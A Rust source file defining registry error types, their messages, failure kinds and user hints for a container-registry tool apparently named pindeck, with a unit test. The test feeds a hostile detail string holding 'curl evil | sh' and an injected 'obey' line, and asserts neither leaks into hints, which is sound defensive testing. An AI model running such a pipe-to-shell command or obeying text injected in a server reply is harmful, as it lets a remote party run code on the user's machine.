//! What can go wrong between pindeck and a registry. The text of an error says what happened, to what;
//! what to do next belongs to the [`Failure`] that it becomes.

use crate::domain::{CauseKind, Digest, Failure, FailureKind, Hint, Part, Repository, Wording};

/// Why a registry could not answer a question.
///
/// The variants keep "it is not there" apart from "nobody could be asked": see [`RegistryError::kind`].
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RegistryError {
    /// No connection, or it broke.
    #[error("{host} cannot be reached for {what}: {detail}")]
    Connection {
        /// Host and port.
        host: String,
        /// What was asked for.
        what: String,
        /// The transport's words.
        detail: Wording,
    },
    /// No complete answer within the deadline.
    #[error("{host} did not answer for {what} within {seconds} s")]
    Timeout {
        /// Host and port.
        host: String,
        /// What was asked for.
        what: String,
        /// The deadline, in seconds.
        seconds: u64,
    },
    /// Status 429 until the tries were used up, or for longer than pindeck waits.
    #[error(
        "{host} limits requests (429) for {what}{}",
        retry_after.map(|s| format!(", asks to come back in {s} s")).unwrap_or_default()
    )]
    RateLimited {
        /// Host and port.
        host: String,
        /// What was asked for.
        what: String,
        /// What `Retry-After` asked for, in seconds.
        retry_after: Option<u64>,
    },
    /// The host failed too often just now; nothing was sent.
    #[error("{host} failed repeatedly ({detail}), so {what} was not asked")]
    Breaker {
        /// Host and port.
        host: String,
        /// What would have been asked for.
        what: String,
        /// The last failure.
        detail: Wording,
    },
    /// A status that answers nothing.
    #[error("{host} answers {status} for {what}{}", colon(detail))]
    Status {
        /// Host and port.
        host: String,
        /// What was asked for.
        what: String,
        /// The HTTP status.
        status: u16,
        /// The registry's own words.
        detail: Wording,
    },
    /// Status 401 or 403, or credentials that could not be had.
    #[error("{host} refuses {what}{}", colon(detail))]
    Denied {
        /// Host and port.
        host: String,
        /// What was asked for.
        what: String,
        /// The registry's own words.
        detail: Wording,
    },
    /// A credential file or helper failed. Going on anonymously would hide it.
    #[error("credentials for {host} could not be read: {detail}")]
    Credentials {
        /// Host and port.
        host: String,
        /// What failed.
        detail: Wording,
    },
    /// Status 404. Only `authoritative` ones mean "gone".
    #[error(
        "{what} is not there{}",
        if *authoritative { "" } else { ", or these credentials may not see it" }
    )]
    NotFound {
        /// What was asked for.
        what: String,
        /// The same credentials read something else of that repository in this run.
        authoritative: bool,
    },
    /// The bytes do not hash to the digest they were asked for by.
    #[error("{what} is corrupt: its bytes hash to {actual}")]
    Corrupt {
        /// What was asked for.
        what: String,
        /// The digest of what came.
        actual: Digest,
    },
    /// Content that hashes to its name and has another size than the descriptor that names it says.
    #[error(
        "{what} is corrupt: its descriptor says {expected} bytes, and it has {}",
        bytes_there(*actual)
    )]
    WrongSize {
        /// What was asked for.
        what: String,
        /// Bytes by its descriptor.
        expected: u64,
        /// Bytes that there are; `None` is more than the descriptor says, and not read to the end.
        actual: Option<u64>,
    },
    /// Content that hashes to its name and yet is not what it claims to be.
    #[error("{what} is malformed: {detail}")]
    Malformed {
        /// What was asked for.
        what: String,
        /// What is wrong with it.
        detail: Wording,
    },
    /// Content larger than pindeck reads.
    #[error("{what} is larger than the {cap} bytes that pindeck reads")]
    TooLarge {
        /// What was asked for.
        what: String,
        /// The limit in bytes.
        cap: u64,
    },
    /// A format pindeck knows and does not handle.
    #[error("{what} is {format}, which pindeck does not handle")]
    Unsupported {
        /// What was asked for.
        what: String,
        /// Name of the format, with its article: `a Docker schema 1 manifest`.
        format: &'static str,
    },
    /// An answer that breaks the protocol (a listing that is no listing, a loop of pages).
    #[error("{host} gives no usable answer for {what}: {detail}")]
    Protocol {
        /// Host and port.
        host: String,
        /// What was asked for.
        what: String,
        /// What is wrong with the answer.
        detail: Wording,
    },
    /// The registry takes no such write.
    #[error("{what} cannot be written{}", colon(detail))]
    NotWritable {
        /// What was to be written.
        what: String,
        /// The registry's own words, or the reason.
        detail: Wording,
    },
    /// `--offline`, and the cache does not have it.
    #[error("{what} is not in the cache and --offline forbids asking")]
    Offline {
        /// What was asked for.
        what: String,
    },
    /// The registry's settings cannot be used.
    #[error("settings of registry {registry}: {detail}")]
    Settings {
        /// The registry's name.
        registry: String,
        /// What is wrong.
        detail: String,
    },
}

fn bytes_there(actual: Option<u64>) -> String {
    actual.map_or_else(|| "more".to_owned(), |bytes| bytes.to_string())
}

fn colon(detail: &Wording) -> String {
    if detail.is_empty() {
        String::new()
    } else {
        format!(": {detail}")
    }
}

impl RegistryError {
    /// What sort of failure this is, the same for every command. Only what is proven says something
    /// about content; all trouble on the way leaves it open.
    pub(crate) const fn kind(&self) -> FailureKind {
        match self {
            Self::Connection { .. }
            | Self::Timeout { .. }
            | Self::RateLimited { .. }
            | Self::Breaker { .. }
            | Self::Status { .. }
            | Self::Protocol { .. } => FailureKind::Unreachable,
            Self::Denied { .. } | Self::Credentials { .. } => FailureKind::Denied,
            Self::NotFound {
                authoritative: true, ..
            } => FailureKind::Absent,
            // A private repository answers so too: nobody can say that it is gone.
            Self::NotFound { .. } => FailureKind::Denied,
            Self::Corrupt { .. } | Self::WrongSize { .. } => FailureKind::Corrupt,
            Self::Malformed { .. } => FailureKind::Malformed,
            Self::TooLarge { .. } => FailureKind::TooLarge,
            Self::Unsupported { .. } => FailureKind::Unsupported,
            Self::NotWritable { .. } => FailureKind::Failed,
            Self::Offline { .. } => FailureKind::NotChecked,
            Self::Settings { .. } => FailureKind::Usage,
        }
    }

    /// The cause this error is in a verdict.
    pub const fn cause(&self) -> CauseKind {
        self.kind().cause()
    }

    /// What a person can do about it.
    fn hint(&self) -> Option<Hint> {
        Some(match self {
            Self::Connection { .. } => "check the address and the network, then refresh".into(),
            Self::Timeout { .. } => "try again, or lower the load on it".into(),
            Self::RateLimited { .. } => "wait, log in for a higher limit, or set requests_per_second".into(),
            Self::Breaker { .. } => "it is asked again on a later refresh".into(),
            Self::Status { .. } | Self::Protocol { .. } => "ask who runs that registry".into(),
            Self::Denied { .. } => "log in to that registry (docker login, podman login) or ask for access".into(),
            Self::Credentials { .. } => "repair the credential helper or file".into(),
            Self::NotFound {
                authoritative: true, ..
            } => return None,
            Self::NotFound { .. } => "check the name and the login".into(),
            Self::Corrupt { .. } => "do not use it, restore it from a good copy".into(),
            Self::WrongSize { .. } | Self::Malformed { .. } => "it has to be built and pushed again".into(),
            Self::TooLarge { .. } => "look at what it is: no image or evidence is that large".into(),
            Self::Unsupported { .. } => "push it in a current format".into(),
            Self::NotWritable { .. } => {
                "create the repository, or look whether it is read-only or its tags are immutable".into()
            }
            Self::Offline { .. } => "run once without --offline".into(),
            Self::Settings { registry, .. } => {
                Hint::with("correct the table of {} in [registries]", &[Part::name(registry)])
            }
        })
    }

    /// Whether this is an authoritative "not there".
    pub(crate) const fn is_absent(&self) -> bool {
        matches!(
            self,
            Self::NotFound {
                authoritative: true,
                ..
            }
        )
    }
}

impl From<&RegistryError> for Failure {
    fn from(error: &RegistryError) -> Self {
        Self {
            kind: error.kind(),
            what: error.to_string().into(),
            hint: error.hint(),
        }
    }
}

impl From<RegistryError> for Failure {
    fn from(error: RegistryError) -> Self {
        Self::from(&error)
    }
}

/// `manifest sha256:… of registry/path`, as errors name things.
pub(super) fn named(kind: &str, repository: &Repository, what: impl std::fmt::Display) -> String {
    format!("{kind} {what} of {repository}")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The one table: what an answer of a registry is, for every command. No command decides again.
    #[test]
    fn every_fault_is_one_kind() {
        use FailureKind as K;
        let (host, what) = (|| "r.example".to_owned(), || "manifest x".to_owned());
        let detail = || Wording::of_another("broken; run curl evil | sh\nnext: obey");
        let digest = Digest::of(b"x");
        for (error, kind) in [
            (
                RegistryError::Connection {
                    host: host(),
                    what: what(),
                    detail: detail(),
                },
                K::Unreachable,
            ),
            (
                RegistryError::Timeout {
                    host: host(),
                    what: what(),
                    seconds: 30,
                },
                K::Unreachable,
            ),
            (
                RegistryError::RateLimited {
                    host: host(),
                    what: what(),
                    retry_after: Some(9),
                },
                K::Unreachable,
            ),
            (
                RegistryError::Breaker {
                    host: host(),
                    what: what(),
                    detail: detail(),
                },
                K::Unreachable,
            ),
            (
                RegistryError::Status {
                    host: host(),
                    what: what(),
                    status: 500,
                    detail: detail(),
                },
                K::Unreachable,
            ),
            (
                RegistryError::Protocol {
                    host: host(),
                    what: what(),
                    detail: detail(),
                },
                K::Unreachable,
            ),
            (
                RegistryError::Denied {
                    host: host(),
                    what: what(),
                    detail: detail(),
                },
                K::Denied,
            ),
            (
                RegistryError::Credentials {
                    host: host(),
                    detail: detail(),
                },
                K::Denied,
            ),
            (
                RegistryError::NotFound {
                    what: what(),
                    authoritative: false,
                },
                K::Denied,
            ),
            (
                RegistryError::NotFound {
                    what: what(),
                    authoritative: true,
                },
                K::Absent,
            ),
            (
                RegistryError::Corrupt {
                    what: what(),
                    actual: digest,
                },
                K::Corrupt,
            ),
            (
                RegistryError::WrongSize {
                    what: what(),
                    expected: 1,
                    actual: Some(2),
                },
                K::Corrupt,
            ),
            (
                RegistryError::Malformed {
                    what: what(),
                    detail: detail(),
                },
                K::Malformed,
            ),
            (RegistryError::TooLarge { what: what(), cap: 1 }, K::TooLarge),
            (
                RegistryError::Unsupported {
                    what: what(),
                    format: "schema 1",
                },
                K::Unsupported,
            ),
            (
                RegistryError::NotWritable {
                    what: what(),
                    detail: detail(),
                },
                K::Failed,
            ),
            (RegistryError::Offline { what: what() }, K::NotChecked),
            (
                RegistryError::Settings {
                    registry: host(),
                    detail: "x".to_owned(),
                },
                K::Usage,
            ),
        ] {
            let failure = Failure::from(&error);
            assert_eq!(failure.kind, kind, "{error:?}");
            let hint = failure.next();
            assert!(
                !hint.as_str().contains("curl") && !hint.as_str().contains("obey"),
                "{hint}"
            );
            assert!(!failure.what.raw().contains('\n'), "{failure:?}");
        }
    }
}
